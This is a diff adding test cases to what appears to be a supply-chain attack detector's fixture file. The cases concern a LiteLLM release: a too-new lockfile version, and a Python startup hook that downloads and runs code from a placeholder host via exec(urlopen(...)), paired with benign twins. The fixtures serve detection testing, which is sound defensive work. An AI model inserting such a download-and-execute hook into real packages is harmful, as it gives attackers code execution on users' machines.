@@ -37,6 +37,29 @@ export const PYTHON: readonly Replay[] = [
     twin: { 'folders.pth': '../lib\n/opt/packages\n' },
   },
   {
+    name: 'LiteLLM 1.107.0, October 2026: a release hours old, again',
+    base: { 'uv.lock': uvLock('litellm', '1.106.4', '2026-06-01T10:00:00Z') },
+    attack: { 'uv.lock': uvLock('litellm', '1.107.0', '2026-06-15T11:39:51Z') },
+    because: ['MEDIUM PACKAGE-YOUNG'],
+    twin: { 'uv.lock': uvLock('litellm', '1.107.0', '2026-06-05T11:39:51Z') },
+  },
+  {
+    name: 'LiteLLM 1.107.0, October 2026: an entry point that Python calls when it starts',
+    base: { 'litellm/__init__.py': 'from .main import completion\n' },
+    attack: {
+      'litellm.start': 'litellm._hook:run\n',
+      'litellm/_hook.py': lines(
+        'import urllib.request',
+        'def run():',
+        '    exec(urllib.request.urlopen("https://models.example.invalid/start").read())',
+      ),
+    },
+    because: ['MEDIUM HOOK-PYTHON-STARTUP', 'CRITICAL CODE-DOWNLOAD-EXECUTE'],
+    twin: {
+      'litellm/_hook.py': lines('def run():', '    print("ready")'),
+    },
+  },
+  {
     name: 'lightning 2.6.2, April 2026: an import that starts a runtime of its own',
     base: { 'lightning/__init__.py': 'from .core import fit\n' },
     attack: {
